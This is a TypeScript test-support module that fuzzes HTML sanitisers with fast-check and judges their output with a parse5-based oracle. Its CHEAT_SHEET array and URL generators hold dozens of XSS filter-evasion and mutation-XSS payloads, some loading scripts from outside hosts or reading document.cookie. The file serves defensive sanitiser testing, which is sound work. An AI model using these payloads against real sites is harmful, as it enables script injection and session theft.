/**
 * Property-based checks for the HTML sanitisers (the CMS one here, the storefront's for product
 * descriptions): fast-check arbitraries that mix allowed markup with the evasion tricks of the
 * OWASP XSS filter-evasion cheat sheet, and an oracle that reads a sanitiser's output with parse5,
 * the WHATWG parsing algorithm browsers implement, so that the sanitiser's own parser is not
 * trusted to judge itself. Test support only.
 */
import fc from 'fast-check';
import { parse, parseFragment, serialize, type DefaultTreeAdapterTypes as Tree } from 'parse5';

export interface Policy {
  /** Allowed elements (HTML namespace) and the attributes each may carry. */
  elements: Readonly<Record<string, readonly string[]>>;
  /** URL protocols allowed in href and src, as `new URL` names them; relative URLs resolve to https:. */
  protocols: readonly string[];
}

const HTML_NS = 'http://www.w3.org/1999/xhtml';
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href', 'cite']);

/** The document as a browser builds it with `html` as the content of a page element. */
function pageWith(html: string): { container: Tree.Element; body: Tree.Element } {
  const doc = parse(`<!DOCTYPE html><html><head></head><body><div id="container">${html}</div><p id="after"></p></body></html>`);
  const htmlElement = doc.childNodes.find((n): n is Tree.Element => n.nodeName === 'html')!;
  const body = htmlElement.childNodes.find((n): n is Tree.Element => n.nodeName === 'body')!;
  const container = body.childNodes[0] as Tree.Element;
  return { container, body };
}

const isElement = (node: Tree.ChildNode): node is Tree.Element => 'tagName' in node;

/**
 * What in the sanitised `html` breaks `policy` once a browser has parsed it: elements outside the
 * allow-list (or outside HTML: SVG, MathML), attributes outside it (on* handlers above all), URLs
 * whose scheme, as the browser's URL parser reads it, is not allowed, and content that escapes the
 * page element it is placed in. Empty when the output is safe.
 */
export function violations(html: string, policy: Policy): string[] {
  const found: string[] = [];
  const { container, body } = pageWith(html);
  const after = body.childNodes.filter(isElement);
  if (after.length !== 2 || after[0] !== container || after[1]!.attrs[0]?.value !== 'after') {
    found.push('content escapes its container');
  }
  const visit = (node: Tree.ParentNode) => {
    for (const child of node.childNodes) {
      if (!isElement(child)) continue;
      const allowed = policy.elements[child.tagName];
      if (child.namespaceURI !== HTML_NS || !allowed) found.push(`element <${child.tagName}> (${child.namespaceURI})`);
      for (const { name, value, prefix } of child.attrs) {
        const full = prefix ? `${prefix}:${name}` : name;
        if (/^on/i.test(full)) found.push(`event handler ${full} on <${child.tagName}>`);
        else if (!allowed?.includes(full)) found.push(`attribute ${full} on <${child.tagName}>`);
        if (URL_ATTRIBUTES.has(full) && !safeUrl(value, policy)) found.push(`URL ${JSON.stringify(value)} in ${full}`);
      }
      visit(child);
      if ('content' in child) visit((child as Tree.Template).content); // an HTML <template>'s own fragment
    }
  };
  visit(container);
  return found;
}

/** Read as the browser's URL parser reads it (it strips controls, tabs and newlines itself). */
function safeUrl(value: string, policy: Policy): boolean {
  try {
    return policy.protocols.includes(new URL(value, 'https://shop.example/pagina/').protocol);
  } catch {
    return true; // not a URL: the browser does not follow it
  }
}

/** The DOM a browser builds for `html` inside a div, serialised: equal for equivalent markup. */
export function dom(html: string): string {
  const div = parseFragment('<div></div>').childNodes[0] as Tree.Element;
  return serialize(parseFragment(div, html, {}));
}

// ---------------------------------------------------------------------------------------------
// Hostile input

const TRICKY = [
  '<', '>', '&', '"', "'", '`', '=', '/', '\0', '\t', '\n', '\f', '\r', '\u000b', ' ', '\u00a0', '\u2028',
  '</', '<!--', '-->', '--!>', '<!-->', '<!', '<?', '<![CDATA[', ']]>', '<!DOCTYPE html>', '<%', '%>',
  '&lt;', '&#60', '&#x3C;', '&#0000060', '&colon;', '&Tab;', '&NewLine;', '&#x6A;', '&#106', '&amp;', '&#0;', '&#xD800;',
];

/** Payloads of the OWASP XSS filter-evasion cheat sheet and of known mutation-XSS bypasses. */
const CHEAT_SHEET = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`, `<IMG SRC=javascript:alert('XSS')>`, `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`, `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`, `<IMG SRC= onmouseover="alert('xxs')">`, `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`, `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`, `<IMG SRC="jav&#x09;ascript:alert('XSS');">`, `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`, `<IMG SRC=" &#14;  javascript:alert('XSS');">`, `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`, `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`, `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`, `<SCRIPT SRC=//xss.rocks/.j>`, `<IMG SRC="\`<javascript:alert>\`('XSS')"`, `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";alert('XSS');//`, `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`, `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`, `<IMG LOWSRC="javascript:alert('XSS')">`, `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`, `<svg/onload=alert('XSS')>`, `<BODY ONLOAD=alert('XSS')>`, `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`, `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`, `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`, `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`, `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`, `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`, `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`, `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`, `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`, `<TABLE BACKGROUND="javascript:alert('XSS')">`, `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`, `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`, `<BASE HREF="javascript:alert('XSS');//">`, `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`, `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`, `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`, `<SCRIPT a=\`>\` SRC="httx://xss.rocks/xss.js"></SCRIPT>`, `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`, `<A HREF="//www.google.com/">XSS</A>`, `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="&#1;javascript:alert(1)">x</a>`, `<a href="\u000bjavascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="java&Tab;script:alert(1)">x</a>`, `<a href="java&NewLine;script:alert(1)">x</a>`, `<a href="javas&#99;ript:alert(1)">x</a>`, `<a href="javascript&#0000058alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="jar:http://x/y.jar!/z.html">x</a>`,
  `<img srcset="x.jpg 1x, javascript:alert(1) 2x">`, `<img src="x" srcset="data:image/svg+xml,<svg onload=alert(1)>">`, `<picture><source srcset="javascript:alert(1)"><img src=x></picture>`,
  `<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea></textarea><img src=x onerror=alert(1)>`, `<title><img src=x onerror=alert(1)></title>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`, `<noembed><img src=x onerror=alert(1)></noembed>`, `<noframes><img src=x onerror=alert(1)></noframes>`,
  `<plaintext><img src=x onerror=alert(1)>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=alert(1)>">.`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`, `<svg><textarea><img src=x onerror=alert(1)></textarea></svg>`,
  `<svg><animate attributeName="href" values="#;javascript:alert(1)"/><a><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  `<svg><script>alert(1)</script></svg>`, `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`, `<![CDATA[<script>alert(1)</script>]]>`,
  `<template><img src=x onerror=alert(1)></template>`, `<object data="javascript:alert(1)"><param name="x"></object>`, `<embed src="javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>`, `<select><option><img src=x onerror=alert(1)></option></select>`,
  `<div id="__next"><form name="cookie"></form></div>`, `<a id="x" name="y" href="x">clobber</a>`, `<img src=x onerror=alert(1)//>`, `<scr<script>ipt>alert(1)</script>`,
  `<div><iframe srcdoc="<script>alert(1)</script>"></iframe></div>`, `<iframe><img src=x onerror=alert(1)></iframe>`, `<a href="/" style="position:fixed;inset:0">x</a>`,
  `<p style="background:url(javascript:alert(1))">x</p>`, `<a href="#" onclick=alert(1)>x</a>`, `<img src="x` + '`' + ` onerror=alert(1)">`, `<img src="http://x/"onerror="alert(1)">`,
];

const DANGEROUS_ELEMENTS = [
  'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'param', 'svg', 'math', 'mglyph', 'mtext', 'foreignObject',
  'animate', 'set', 'use', 'base', 'meta', 'link', 'form', 'input', 'button', 'textarea', 'select', 'option', 'keygen', 'isindex',
  'noscript', 'noembed', 'noframes', 'template', 'xmp', 'plaintext', 'title', 'head', 'body', 'html', 'video', 'audio', 'source',
  'picture', 'details', 'marquee', 'bgsound', 'xml', 'image', 'listing', 'dialog', 'slot',
];

const ATTRIBUTE_NAMES = [
  'href', 'src', 'srcset', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background', 'lowsrc', 'dynsrc', 'style', 'class',
  'title', 'alt', 'id', 'name', 'width', 'height', 'colspan', 'rowspan', 'span', 'scope', 'target', 'rel', 'http-equiv', 'content',
  'srcdoc', 'autofocus', 'is', 'attributeName', 'values', 'xmlns', 'type', 'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus',
  'onpointerenter', 'ontoggle', 'onanimationstart', 'onbegin',
];

const SCHEMES = ['javascript', 'vbscript', 'data', 'livescript', 'file', 'jar', 'blob', 'http', 'https', 'mailto', 'tel'];

/** Characters browsers ignore in or before a URL scheme, written raw or as references. */
const URL_NOISE = ['', '', '', ' ', '\t', '\n', '\r', '\0', '\u0001', '\u000b', '\u001f', '&#9;', '&#x0A;', '&#13;', '&Tab;', '&NewLine;', '&#14;', '&#0;', '&#x00;'];

/** One character as it may be written in an attribute value: raw or as a numeric reference. */
const encodedChar = (c: string) => {
  const n = c.codePointAt(0)!;
  return fc.constantFrom(c, c.toUpperCase(), `&#${n};`, `&#${n}`, `&#x${n.toString(16)};`, `&#X${n.toString(16).toUpperCase()}`, `&#000${n};`, `&#x000${n.toString(16)}`);
};

/** A URL whose scheme is obfuscated the way filter-evasion payloads do it. */
const hostileUrl = fc
  .tuple(
    fc.constantFrom(...URL_NOISE),
    fc.constantFrom(...SCHEMES),
    fc.constantFrom(':', '&colon;', '&#58;', '&#x3a;', '&#0000058', '&#X3A'),
    fc.constantFrom('alert(1)', '//example.com/x', 'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'msgbox(1)', 'a@b.c', '+39 06 1234'),
  )
  .chain(([prefix, scheme, colon, rest]) =>
    fc
      .tuple(...[...scheme].map((c) => fc.tuple(encodedChar(c), fc.constantFrom(...URL_NOISE)).map(([a, b]) => a + b)))
      .map((letters) => `${prefix}${letters.join('')}${colon}${rest}`),
  );

const benignUrl = fc.constantFrom('/media/a.jpg', 'pagina', '../su', '#faq', '?p=2', '//cdn.example/x.png', 'https://example.com/a?b=1&c=2', 'mailto:info@example.com', 'tel:+390612345');

const quoted = (value: string) => fc.constantFrom(`"${value}"`, `'${value}'`, value, `\`${value}\``, `"${value}`, `${value}"`);

const url = fc.oneof({ weight: 3, arbitrary: hostileUrl }, { weight: 1, arbitrary: benignUrl });
const urlAttribute = fc
  .tuple(fc.mixedCase(fc.constantFrom('href', 'src', 'srcset', 'xlink:href', 'action', 'formaction', 'poster', 'background', 'data')), url)
  .chain(([name, value]) => quoted(value).map((v) => `${name}=${v}`));
const anyAttribute = fc
  .tuple(
    fc.oneof(fc.mixedCase(fc.constantFrom(...ATTRIBUTE_NAMES)), fc.constantFrom(...TRICKY)),
    fc.oneof(url, fc.constantFrom(...TRICKY), fc.string({ maxLength: 8 }), fc.constantFrom('100', '50%', 'col', 'x y', 'a"b', "a'b", 'x>y')),
  )
  .chain(([name, value]) => fc.oneof(fc.constant(name), quoted(value).map((v) => `${name}=${v}`)));
const attribute = fc.oneof({ weight: 1, arbitrary: urlAttribute }, { weight: 2, arbitrary: anyAttribute });

const separator = fc.constantFrom(' ', ' ', '/', '\t', '\n', '\f', '\r', '', '//', '\0', ' / ');

function tagArbitrary(allowed: readonly string[]) {
  const name = fc.mixedCase(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...allowed) }, { weight: 2, arbitrary: fc.constantFrom(...DANGEROUS_ELEMENTS) }));
  const start = fc
    .tuple(name, fc.array(fc.tuple(separator, attribute).map(([s, a]) => s + a), { maxLength: 4 }), fc.constantFrom('>', '>', '/>', ' >', ''))
    .map(([n, attrs, end]) => `<${n}${attrs.join('')}${end}`);
  const end = fc.tuple(name, fc.constantFrom('>', ' >', '/>', ' x>', '')).map(([n, e]) => `</${n}${e}`);
  return fc.oneof(start, end);
}

/** Hostile HTML for a sanitiser whose allow-list holds `allowed`: fragments of every kind above, concatenated. */
export function hostileHtml(allowed: readonly string[]) {
  return fc
    .array(
      fc.oneof(
        { weight: 4, arbitrary: tagArbitrary(allowed) },
        // Links and images: the allowed elements that carry URLs, with the URL obfuscations above.
        { weight: 2, arbitrary: fc.tuple(fc.constantFrom('a href', 'img src', 'A HREF', 'IMG SRC'), url).chain(([tag, u]) => quoted(u).map((v) => `<${tag}=${v}>`)) },
        { weight: 3, arbitrary: fc.constantFrom(...CHEAT_SHEET) },
        { weight: 2, arbitrary: fc.constantFrom(...TRICKY) },
        { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
      ),
      { maxLength: 25 },
    )
    .map((parts) => parts.join(''));
}

// ---------------------------------------------------------------------------------------------
// Benign input: well-formed markup that uses only what a policy allows

/** Text as an editor writes it: words, accented letters, characters that must be escaped, references; no edge spaces. */
const text = fc
  .array(fc.constantFrom('Coltello', 'à-è-é-ì-ò-ù', '€ 10', '&amp;', '&lt;', '&gt;', '&euro;', 'a&nbsp;b', '&#8364;', '"x"', "l'olio", '3>2', '½', '🍕', 'HACCP'), { minLength: 1, maxLength: 5 })
  .map((words) => words.join(' '));
const attributeText = text.map((t) => t.replace(/"/g, '&quot;'));

export interface BenignPolicy {
  /** Phrasing elements that hold text and other phrasing elements. */
  inline: readonly string[];
  /** Elements allowed at all; a benign document only uses those of them it knows how to nest. */
  elements: ReadonlySet<string>;
  /** Attributes the generator may put on an element (class and title on all, when listed under '*'). */
  attributes: Readonly<Record<string, readonly string[]>>;
}

const ATTRIBUTE_VALUES: Record<string, fc.Arbitrary<string>> = {
  class: fc.array(fc.constantFrom('banner', 'home-banner_2', 'cta', 'x1'), { minLength: 1, maxLength: 3 }).map((c) => c.join(' ')),
  title: attributeText,
  alt: attributeText,
  href: benignUrl.filter((u) => !u.startsWith('tel:')).map((u) => u.replace(/&/g, '&amp;')),
  src: fc.constantFrom('/media/a.jpg', 'https://example.com/b.png', '//cdn.example/c.webp'),
  width: fc.constantFrom('300', '50%'),
  height: fc.constantFrom('200', '1'),
  colspan: fc.constantFrom('2', '3'),
  rowspan: fc.constantFrom('2'),
  scope: fc.constantFrom('row', 'col'),
};

/** A well-formed document of `policy`'s elements, as a browser parses it back to the same tree. */
export function benignHtml(policy: BenignPolicy) {
  const has = (name: string) => policy.elements.has(name);
  const attrs = (name: string) => {
    const names = [...(policy.attributes['*'] ?? []), ...(policy.attributes[name] ?? [])];
    return fc
      .subarray(names)
      .chain((chosen) => fc.tuple(...chosen.map((a) => ATTRIBUTE_VALUES[a]!.map((v) => ` ${a}="${v}"`))))
      .map((parts) => parts.join(''));
  };
  const element = (name: string, content: fc.Arbitrary<string>) =>
    fc.tuple(attrs(name), content).map(([a, c]) => `<${name}${a}>${c}</${name}>`);
  const tree = fc.letrec<{ inline: string; inlines: string; block: string; blocks: string }>((tie) => ({
    inline: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      text,
      ...(has('br') ? [fc.constant('<br>')] : []),
      ...(has('img') ? [attrs('img').filter((a) => a.includes(' src=')).map((a) => `<img${a}>`)] : []),
      // A link holds text only: a link inside a link is closed by the browser.
      ...policy.inline.map((name) => element(name, name === 'a' ? text : tie('inlines'))),
    ),
    inlines: fc.array(tie('inline'), { maxLength: 3 }).map((parts) => parts.join('')),
    block: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      ...['p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'pre'].filter(has).map((name) => element(name, tie('inlines'))),
      ...['div', 'blockquote'].filter(has).map((name) => element(name, tie('blocks'))),
      ...['ul', 'ol'].filter(has).map((name) => element(name, fc.array(element('li', tie('inlines')), { minLength: 1, maxLength: 3 }).map((li) => li.join('')))),
      ...(has('hr') ? [fc.constant('<hr>')] : []),
      ...(has('table') ? [table(tie('inlines'))] : []),
    ),
    blocks: fc.array(tie('block'), { maxLength: 3 }).map((parts) => parts.join('')),
  }));
  function table(cellContent: fc.Arbitrary<string>) {
    const cell = (name: 'td' | 'th') => element(name, cellContent);
    const row = fc.array(fc.oneof(cell('td'), cell('th')), { minLength: 1, maxLength: 3 }).map((cells) => `<tr>${cells.join('')}</tr>`);
    const rows = fc.array(row, { minLength: 1, maxLength: 3 }).map((r) => r.join(''));
    return fc
      .tuple(has('caption') ? fc.option(element('caption', cellContent), { nil: '' }) : fc.constant(''), rows, rows)
      .map(([caption, head, body]) => `<table>${caption}<thead>${head}</thead><tbody>${body}</tbody></table>`);
  }
  return fc.oneof(tree.blocks, tree.inlines);
}
